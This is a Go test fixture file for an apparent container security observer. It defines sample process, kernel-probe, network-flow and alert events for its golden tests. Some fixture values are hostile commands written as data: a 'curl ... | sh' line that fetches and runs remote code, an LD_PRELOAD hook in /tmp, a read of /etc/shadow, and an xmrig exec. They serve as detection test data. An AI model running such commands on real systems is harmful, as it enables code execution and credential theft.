package encode

import (
	"net/netip"
	"time"

	"github.com/vigilsec/vigil/event"
)

// Fixtures shared by the golden, fuzz and benchmark tests. They look like
// what the observer produces for a container on a Kubernetes node.

var (
	fixtureTime  = time.Date(2026, 11, 22, 7, 18, 21, 123456789, time.UTC)
	fixtureStart = time.Date(2026, 11, 22, 7, 18, 20, 5000, time.UTC)
	nodeName     = "node-a"
)

// dockerCaps is the default capability set of a container runtime.
const dockerCaps = 1<<0 | 1<<1 | 1<<3 | 1<<4 | 1<<5 | 1<<6 | 1<<7 | 1<<8 | 1<<10 | 1<<13 | 1<<18 | 1<<27 | 1<<29 | 1<<31

func fixturePod() *event.Pod {
	return &event.Pod{
		Namespace: "shop",
		Name:      "web-7c9f8d-x2x4q",
		UID:       "0c9b4f6e-4d0f-4b55-9c1f-0f4b1c0de001",
		Labels: []event.Label{
			{Key: "app", Value: "web"},
			{Key: "pod-template-hash", Value: "7c9f8d"},
			{Key: "tier", Value: "frontend"},
		},
		Workload:     "web",
		WorkloadKind: "Deployment",
		Container: event.Container{
			ID:        "containerd://3f1e2d4c5b6a79880123456789abcdef0123456789abcdef0123456789abcdef",
			Name:      "web",
			ImageName: "registry.example.com/shop/web:1.4.2",
			ImageID:   "registry.example.com/shop/web@sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
			StartTime: time.Date(2026, 11, 22, 6, 0, 0, 0, time.UTC),
		},
	}
}

func fixtureProcess(pod *event.Pod) *event.Process {
	setuid := uint32(0)
	return &event.Process{
		ExecID:       "bm9kZS1hOjEyMzQ1Njc4OTAxMjM0OjQyNDI=",
		ParentExecID: "bm9kZS1hOjEyMzQ1Njc4MDAwMDAwOjQyMDA=",
		PID:          4242, TID: 4242, UID: 1000, AUID: 4294967295,
		Creds:        event.Credentials{UID: 1000, GID: 1000, EUID: 0, EGID: 1000, SUID: 0, SGID: 1000, FSUID: 0, FSGID: 1000},
		CWD:          "/srv/app",
		Binary:       "/usr/bin/curl",
		Arguments:    `-s -H "Authorization: Bearer x" https://api.example.com/v1/orders?id=42`,
		Env:          []event.EnvVar{{Key: "LD_PRELOAD", Value: "/tmp/.x/libhook.so"}, {Key: "GLIBC_TUNABLES", Value: "glibc.malloc.check=1"}},
		Flags:        event.FlagExecve | event.FlagClone,
		StartTime:    fixtureStart,
		Ktime:        1234567890123,
		CapPermitted: dockerCaps, CapEffective: dockerCaps,
		Namespaces: event.Namespaces{PidInum: 4026532801, MntInum: 4026532799, NetInum: 4026532803},
		CgroupID:   10542,
		BinaryProperties: event.BinaryProperties{
			Setuid: &setuid, InodeNumber: 393228, InodeLinks: 1, UpperLayer: true, PrivilegesChanged: event.PrivilegesRaisedSetuid,
		},
		Pod: pod,
	}
}

func fixtureParent(pod *event.Pod) *event.Process {
	return &event.Process{
		ExecID:       "bm9kZS1hOjEyMzQ1Njc4MDAwMDAwOjQyMDA=",
		ParentExecID: "bm9kZS1hOjEyMzQwMDAwMDAwMDAwOjQwMDA=",
		PID:          4200, TID: 4200, UID: 1000, AUID: 4294967295,
		Creds:        event.Credentials{UID: 1000, GID: 1000, EUID: 1000, EGID: 1000, SUID: 1000, SGID: 1000, FSUID: 1000, FSGID: 1000},
		CWD:          "/srv/app",
		Binary:       "/bin/sh",
		Argv0:        "-sh",
		Arguments:    `-c "curl -s https://api.example.com/v1/orders?id=42"`,
		Flags:        event.FlagExecve | event.FlagClone,
		StartTime:    fixtureStart.Add(-time.Second),
		CapPermitted: dockerCaps, CapEffective: dockerCaps,
		Namespaces: event.Namespaces{PidInum: 4026532801, MntInum: 4026532799, NetInum: 4026532803},
		CgroupID:   10542,
		Pod:        pod,
	}
}

func hostProcess() *event.Process {
	return &event.Process{
		ExecID: "bm9kZS1hOjk5OjEwMDA=", ParentExecID: "bm9kZS1hOjE6MQ==",
		PID: 1000, TID: 1001, UID: 0, AUID: 0,
		CWD: "/", Binary: "/usr/sbin/sshd", Arguments: "-D",
		Flags: event.FlagProcFS | event.FlagRootCWD, StartTime: fixtureStart.Add(-time.Hour),
		CapPermitted: 1<<41 - 1, CapEffective: 1<<41 - 1,
		Namespaces: event.Namespaces{PidInum: 4026531836, MntInum: 4026531841, NetInum: 4026531840,
			PidIsHost: true, MntIsHost: true, NetIsHost: true},
		CgroupID: 1,
	}
}

// oddProcess sets every optional member of a process object: a memfd
// executable that was deleted, set-id bits that raised both ids, file
// capabilities, and capabilities past the ones Tetragon names.
func oddProcess() *event.Process {
	p := hostProcess()
	id := uint32(0)
	p.ExecID, p.PID, p.TID, p.UID = "bm9kZS1hOjk5OjIwMDA=", 2000, 2000, 1000
	p.Creds = event.Credentials{UID: 1000, GID: 1000, EUID: 0, EGID: 0, SUID: 0, SGID: 0, FSUID: 0, FSGID: 0}
	p.Binary, p.Arguments = "/proc/self/fd/3", `"" "a b" tail`
	p.CapPermitted, p.CapEffective, p.CapInheritable = 1<<45|1<<40|1<<1, 1<<1, 1<<21
	p.BinaryProperties = event.BinaryProperties{Setuid: &id, Setgid: &id, Memfd: true, Deleted: true,
		PrivilegesChanged: event.PrivilegesRaisedFileCap | event.PrivilegesRaisedSetuid | event.PrivilegesRaisedSetgid}
	return p
}

// fixtures returns one event per golden file, by file name.
func fixtures() map[string]*event.Event {
	pod := fixturePod()
	proc, parent := fixtureProcess(pod), fixtureParent(pod)
	host := hostProcess()

	exec := &event.Event{Type: event.TypeProcessExec, Time: fixtureTime, Process: proc, Parent: parent}
	kprobe := &event.Event{Type: event.TypeProcessKprobe, Time: fixtureTime, Process: proc, Parent: parent,
		Kprobe: &event.Kprobe{
			FunctionName: "security_file_open", Mechanism: "fentry",
			Args: []event.Arg{
				{Kind: event.ArgFile, Str: "/etc/shadow", Flags: 0, Label: "file"},
				{Kind: event.ArgInt, Int: -4},
				{Kind: event.ArgUint, Uint: 4096},
				{Kind: event.ArgSize, Uint: 1 << 40},
				{Kind: event.ArgString, Str: "tab\there \"quoted\" \x01 \xff end"},
				{Kind: event.ArgBytes, Bytes: []byte{0, 1, 2, 0xfe, 0xff}, Truncated: true},
				{Kind: event.ArgPath, Str: "/tmp/x", Flags: 0o104755},
				{Kind: event.ArgBinprm, Str: "/usr/bin/passwd", Flags: 0o104755},
				{Kind: event.ArgSock, Sock: &event.Sock{Family: 2, Type: 1, Protocol: 6, State: 1,
					Saddr: netip.MustParseAddr("10.0.1.5"), Daddr: netip.MustParseAddr("10.0.2.9"),
					Sport: 43512, Dport: 5432, Cookie: 18446744073709551557}},
				{Kind: event.ArgSkb, Sock: &event.Sock{Family: 10, Protocol: 17,
					Saddr: netip.MustParseAddr("fd00::5"), Daddr: netip.MustParseAddr("fd00::9"), Sport: 53, Dport: 40000}},
				{Kind: event.ArgSockaddr, Sock: &event.Sock{Family: 2, Daddr: netip.MustParseAddr("169.254.169.254"), Dport: 80}},
				{Kind: event.ArgCred, Cred: &event.Credentials{UID: 1000, EUID: 0}},
				{Kind: event.ArgCapability, Int: 21},
				{Kind: event.ArgKernelCapT, Uint: dockerCaps},
			},
			Return: &event.Arg{Kind: event.ArgInt, Int: -1},
			Action: "KPROBE_ACTION_OVERRIDE", PolicyName: "protect-shadow",
			Message: "read of /etc/shadow", Tags: []string{"credentials", "T1003.008"},
			Errno: -1,
		}}
	return map[string]*event.Event{
		"process_exec":      exec,
		"process_exec_host": {Type: event.TypeProcessExec, Time: fixtureTime, Process: host},
		"process_exit": {Type: event.TypeProcessExit, Time: fixtureTime, Process: proc, Parent: parent,
			Exit: &event.Exit{Status: 0, Signal: 9}},
		"process_exit_status": {Type: event.TypeProcessExit, Time: fixtureTime, Process: host,
			Exit: &event.Exit{Status: 3}},
		"process_exit_core": {Type: event.TypeProcessExit, Time: fixtureTime, Process: oddProcess(), Parent: host,
			Exit: &event.Exit{Signal: 11, CoreDumped: true}},
		"process_kprobe_repeats": {Type: event.TypeProcessKprobe, Time: fixtureTime, Process: oddProcess(),
			Kprobe: &event.Kprobe{FunctionName: "__x64_sys_ptrace", Mechanism: "kprobe",
				Args: []event.Arg{{Kind: event.ArgLong, Int: -1 << 40, Label: "request"},
					{Kind: event.ArgString, Str: "cut", Truncated: true}},
				Return: &event.Arg{Kind: event.ArgLong, Int: -38},
				Action: "KPROBE_ACTION_SIGNAL", Signal: 10, PolicyName: "ptrace",
				ActionNote: "not taken: the process is protected",
				Repeats:    &event.Repeats{Count: 41, First: fixtureStart, Last: fixtureTime}}},
		"process_kprobe": kprobe,
		"process_kprobe_sigkill_monitor": {Type: event.TypeProcessKprobe, Time: fixtureTime, Process: proc, Parent: parent,
			Kprobe: &event.Kprobe{FunctionName: "__x64_sys_ptrace", Mechanism: "kprobe",
				Args:   []event.Arg{{Kind: event.ArgInt, Int: 16, Label: "request"}},
				Action: "KPROBE_ACTION_SIGKILL", Monitor: true, PolicyName: "no-ptrace",
				ActionNote: "SIGKILL does not stop the syscall that triggered it", Signal: 9}},
		"process_tracepoint": {Type: event.TypeProcessTracepoint, Time: fixtureTime, Process: host,
			Kprobe: &event.Kprobe{FunctionName: "syscalls/sys_enter_unshare", Mechanism: "tracepoint",
				Args:   []event.Arg{{Kind: event.ArgUint, Uint: 0x10000000}},
				Return: &event.Arg{Kind: event.ArgInt, Int: 0},
				Action: "KPROBE_ACTION_POST", PolicyName: "namespaces"}},
		"process_lsm": {Type: event.TypeProcessLSM, Time: fixtureTime, Process: proc, Parent: parent,
			Kprobe: &event.Kprobe{FunctionName: "bprm_check_security", Mechanism: "lsm",
				Args:   []event.Arg{{Kind: event.ArgBinprm, Str: "/tmp/xmrig", Flags: 0o100755}},
				Action: "KPROBE_ACTION_OVERRIDE", Errno: -1, PolicyName: "no-tmp-exec", Message: "exec from /tmp"}},
		"process_uprobe": {Type: event.TypeProcessUprobe, Time: fixtureTime, Process: proc, Parent: parent,
			Kprobe: &event.Kprobe{FunctionName: "readline", UprobePath: "/usr/bin/bash", Mechanism: "uprobe",
				Args:   []event.Arg{{Kind: event.ArgString, Str: "curl http://10.0.0.1/x | sh"}},
				Action: "KPROBE_ACTION_SIGKILL", Signal: 9, PolicyName: "bash-readline", Message: "interactive shell"}},
		"process_usdt": {Type: event.TypeProcessUsdt, Time: fixtureTime, Process: proc, Parent: parent,
			Kprobe: &event.Kprobe{FunctionName: "query__start", UsdtProvider: "mysql", UprobePath: "/usr/sbin/mysqld", Mechanism: "usdt",
				Args:   []event.Arg{{Kind: event.ArgString, Str: "DROP TABLE orders"}},
				Action: "KPROBE_ACTION_POST", PolicyName: "mysql-queries"}},
		"flow": {Type: event.TypeFlow, Time: fixtureTime, Process: proc, Parent: parent,
			Flow: &event.Flow{Phase: event.FlowStart, Verdict: event.VerdictDropped, DropReasonDesc: "POLICY_DENIED",
				Source: netip.MustParseAddr("10.0.1.5"), Destination: netip.MustParseAddr("10.0.2.9"),
				Protocol: event.ProtoTCP, SourcePort: 43512, DestinationPort: 5432, TCPFlags: event.TCPSYN,
				SourceEndpoint: event.Endpoint{Identity: 51234, Namespace: "shop", PodName: "web-7c9f8d-x2x4q",
					Labels:    []string{"k8s:app=web", "k8s:io.kubernetes.pod.namespace=shop"},
					Workloads: []event.Workload{{Name: "web", Kind: "Deployment"}}},
				DestEndpoint: event.Endpoint{Identity: 60001, Namespace: "db", PodName: "postgres-0",
					Labels: []string{"k8s:app=postgres"}, Workloads: []event.Workload{{Name: "postgres", Kind: "StatefulSet"}}},
				Direction: event.DirectionEgress, EgressDeniedBy: []string{"shop/default-deny", "db-only"},
				Count: 3}},
		"flow_udp_end": {Type: event.TypeFlow, Time: fixtureTime, Process: host,
			Flow: &event.Flow{Phase: event.FlowEnd, Verdict: event.VerdictForwarded,
				Source: netip.MustParseAddr("fd00::5"), Destination: netip.MustParseAddr("fd00::53"),
				Protocol: event.ProtoUDP, SourcePort: 40000, DestinationPort: 53,
				SourceEndpoint: event.Endpoint{Identity: 1}, DestEndpoint: event.Endpoint{Identity: 2},
				Direction: event.DirectionEgress, IsReply: false, PolicyNames: []string{"allow-dns"},
				BytesSent: 120, BytesReceived: 480, PacketsSent: 2, PacketsReceived: 2}},
		"alert": {Type: event.TypeAlert, Time: fixtureTime, Process: proc, Parent: parent,
			Alert: &event.Alert{
				Rule: event.Rule{ID: "VGL-0007", Name: "Credential file read", Severity: "high",
					Tactic: "credential-access", Technique: "T1003.008", Tags: []string{"linux", "container"}},
				Description: "curl read /etc/shadow in shop/web",
				Event:       kprobe,
			}},
		"lost_events": {Type: event.TypeLostEvents, Time: fixtureTime,
			Lost: &event.Lost{Count: 1523, Reason: "queue_full", Sink: "webhook"}},
		"rate_limit_info": {Type: event.TypeRateLimitInfo, Time: fixtureTime,
			RateLimit: &event.RateLimitInfo{NumberOfDroppedProcessEvents: 977}},
	}
}
